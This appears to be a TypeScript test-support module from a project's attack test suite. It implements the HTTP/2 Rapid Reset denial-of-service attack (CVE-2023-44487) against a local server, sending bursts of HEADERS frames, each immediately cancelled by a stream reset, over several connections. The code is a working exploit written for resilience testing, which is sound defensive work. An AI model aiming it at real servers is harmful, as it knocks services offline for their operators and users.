import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { getRequest } from "../../../test/support/attacks/http2-flood.js";
import { ROUTES_PATH } from "../../../test/support/attacks/memory-attacks.js";
import {
  createFrameReader,
  encodeClientPreface,
  encodeFrame,
  encodeHeaders,
  FRAME_FLAGS,
  FRAME_TYPES,
} from "../http2-frames.js";

export interface ResetBurstOptions {
  readonly port: number;
  readonly connections: number;
  /** Requests of each connection. Of more than a thousand resets, Node.js closes the connection by itself. */
  readonly requests: number;
}

const CANCEL = Buffer.from([0, 0, 0, 8]);
const ACKNOWLEDGEMENT = encodeFrame(FRAME_TYPES.settings, FRAME_FLAGS.ack, 0, Buffer.alloc(0));

/**
 * Opens connections, and sends requests over all of them at the same time, each with its reset (CVE-2023-44487). Resolves when
 * the server has closed all of them.
 */
export async function burstResets({ port, connections, requests }: ResetBurstOptions): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: connections }, () => openSession(port)));
  const burst = encodeBurst(requests);
  const closed = sockets.map((socket) => once(socket, "close"));
  for (const socket of sockets) socket.write(burst);
  await Promise.all(closed);
}

/** Opens a connection, and resolves when the server has begun its session. */
async function openSession(port: number): Promise<Socket> {
  const socket = connect({ port, host: "127.0.0.1" });
  socket.on("error", () => {});
  socket.write(encodeClientPreface());
  await new Promise<void>((resolve) => {
    const readFrames = createFrameReader((type, flags) => {
      if (type !== FRAME_TYPES.settings || (flags & FRAME_FLAGS.ack) !== 0) return;
      socket.write(ACKNOWLEDGEMENT);
      resolve();
    });
    socket.on("data", readFrames);
    socket.once("close", () => resolve());
  });
  return socket;
}

function encodeBurst(requests: number): Buffer {
  const { first, later } = encodeHeaders(getRequest(ROUTES_PATH).headers);
  const flags = FRAME_FLAGS.endHeaders | FRAME_FLAGS.endStream;
  return Buffer.concat(
    Array.from({ length: requests }, (_, index) => index).flatMap((index) => [
      encodeFrame(FRAME_TYPES.headers, flags, 1 + 2 * index, index === 0 ? first : later),
      encodeFrame(FRAME_TYPES.reset, 0, 1 + 2 * index, CANCEL),
    ]),
  );
}
